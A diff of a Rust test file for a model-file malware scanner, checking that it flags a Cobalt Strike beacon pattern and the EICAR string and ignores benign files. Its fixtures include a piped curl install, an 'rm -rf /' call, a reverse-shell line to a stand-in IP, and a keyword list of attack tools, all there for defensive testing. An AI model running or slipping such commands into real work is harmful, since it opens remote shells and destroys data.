@@ -2,14 +2,16 @@
 
 use std::sync::Arc;
 
-use holdfast_formats::testing::{Assembler, GgufBuilder, Member, SafetensorsBuilder, Value, archive, weights};
+use holdfast_formats::testing::{
+    Assembler, GgufBuilder, Member, SafetensorsBuilder, Value, archive, weights,
+};
 use holdfast_formats::{FileInspector, Scanner};
 use holdfast_rules::RuleSet;
 
 fn matches(bytes: &[u8]) -> Vec<String> {
     static SCANNER: std::sync::LazyLock<Arc<Scanner>> = std::sync::LazyLock::new(|| {
         let rules = RuleSet::with_shipped(&[]).unwrap();
-        Arc::new(Scanner::new(vec![Arc::new(rules)]))
+        rules.scanner()
     });
     let mut inspector = FileInspector::new("model").scanning(&SCANNER);
     inspector.feed(bytes);
@@ -74,8 +76,15 @@ fn each_finds_what_it_is_for() {
         let found = matches(&gguf(text.as_bytes()));
         assert!(found.iter().any(|found| found == name), "{name}: {found:?}");
     }
-    let beacon: Vec<u8> = [0, 1, 0, 1, 0, 2, 0, 0, 0, 2, 0, 1, 0, 2, 0x01, 0xbb, 0, 3, 0, 2, 0, 4].map(|byte| byte ^ 0x2e).into();
-    assert_eq!(matches(&SafetensorsBuilder::raw("{\"w\":{}}", &beacon).bytes), ["cobalt_strike_beacon"]);
+    let beacon: Vec<u8> = [
+        0, 1, 0, 1, 0, 2, 0, 0, 0, 2, 0, 1, 0, 2, 0x01, 0xbb, 0, 3, 0, 2, 0, 4,
+    ]
+    .map(|byte| byte ^ 0x2e)
+    .into();
+    assert_eq!(
+        matches(&SafetensorsBuilder::raw("{\"w\":{}}", &beacon).bytes),
+        ["cobalt_strike_beacon"]
+    );
     let mut eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$".to_vec();
     eicar.extend(b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
     assert_eq!(matches(&eicar), ["eicar_test_file"]);
@@ -86,16 +95,49 @@ fn ordinary_files_match_none() {
     let readme = "# A model\n\nInstall the tool:\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\npip install x\n```\n\
                   Do not run `os.system('rm -rf /')`. Reverse shells such as `bash -i >& /dev/tcp/192.0.2.1/1` are refused.\n";
     let words = [
-        "subprocess", "os", ".system", "exec(", "curl", " | ", "sh", "/bin/sh", "powershell", "import", "bash -i", "base64",
-        "PRIVATE KEY", "-----BEGIN", "eval", "xmrig", "bitcoin", "beacon.dll", "WriteProcessMemory",
+        "subprocess",
+        "os",
+        ".system",
+        "exec(",
+        "curl",
+        " | ",
+        "sh",
+        "/bin/sh",
+        "powershell",
+        "import",
+        "bash -i",
+        "base64",
+        "PRIVATE KEY",
+        "-----BEGIN",
+        "eval",
+        "xmrig",
+        "bitcoin",
+        "beacon.dll",
+        "WriteProcessMemory",
     ];
     let pickle = Assembler::protocol(2).state_dict(&[("w", &[64, 64])]).stop();
     for (name, file) in [
         ("readme", readme.as_bytes().to_vec()),
-        ("readme in an archive", archive(&[Member::stored("README.md", readme.as_bytes())]).bytes),
-        ("gguf", GgufBuilder::llama().set("tokenizer.ggml.tokens", Value::texts(words)).build().bytes),
+        (
+            "readme in an archive",
+            archive(&[Member::stored("README.md", readme.as_bytes())]).bytes,
+        ),
+        (
+            "gguf",
+            GgufBuilder::llama()
+                .set("tokenizer.ggml.tokens", Value::texts(words))
+                .build()
+                .bytes,
+        ),
         ("safetensors", SafetensorsBuilder::small().build().bytes),
-        ("checkpoint", archive(&[Member::stored("m/data.pkl", &pickle), Member::stored("m/data/0", &weights(16384))]).bytes),
+        (
+            "checkpoint",
+            archive(&[
+                Member::stored("m/data.pkl", &pickle),
+                Member::stored("m/data/0", &weights(16384)),
+            ])
+            .bytes,
+        ),
         ("weights", weights(4 << 20)),
     ] {
         assert_eq!(matches(&file), [""; 0], "{name}");
